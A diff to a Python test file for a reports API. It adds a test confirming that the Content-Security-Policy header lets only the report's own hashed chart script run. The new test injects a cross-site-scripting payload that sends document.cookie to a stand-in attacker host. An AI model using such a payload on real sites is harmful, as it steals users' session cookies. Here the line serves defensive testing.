@@ -8,10 +8,10 @@ from fastapi.testclient import TestClient
 
 from resync.db.engine import session_scope
 from resync.db.models import Report
-from resync.reports.content_security import content_security_policy
+from resync.reports.content_security import DRAW_CHARTS, content_security_policy, script_hash
 
 REPORTS = "/api/v1/reports"
-HTML = "<!doctype html><title>r</title><script>draw()</script><p>WS-DISK</p>"
+HTML = f"<!doctype html><title>r</title><script>{DRAW_CHARTS}</script><p>WS-DISK</p>"
 
 
 def store(title: str, created_at: datetime, kind: str = "capacity") -> uuid.UUID:
@@ -80,6 +80,19 @@ def test_a_report_as_html_under_its_content_security_policy(client: TestClient, 
     assert policy == content_security_policy(HTML)
     assert policy.startswith("default-src 'none'; script-src 'sha256-")
     assert "unsafe-inline" not in policy.split("script-src", 1)[1].split(";", 1)[0]
+
+
+def test_only_the_report_script_may_run(client: TestClient, headers) -> None:
+    injected = "fetch('https://attacker.test/?' + document.cookie)"
+    report_id = store("Capacity report 2026-11-27", datetime.now(UTC))
+    with session_scope() as session:
+        report = session.get(Report, report_id)
+        report.html = HTML.replace("<p>WS-DISK</p>", f"<p>WS-DISK<script>{injected}</script></p>")
+
+    response = client.get(f"{REPORTS}/{report_id}.html", headers=headers)
+
+    script_src = response.headers["content-security-policy"].split("; ")[1]
+    assert script_src == f"script-src {script_hash(DRAW_CHARTS)}"
 
 
 def test_a_report_as_pdf_with_a_file_name(client: TestClient, headers) -> None:
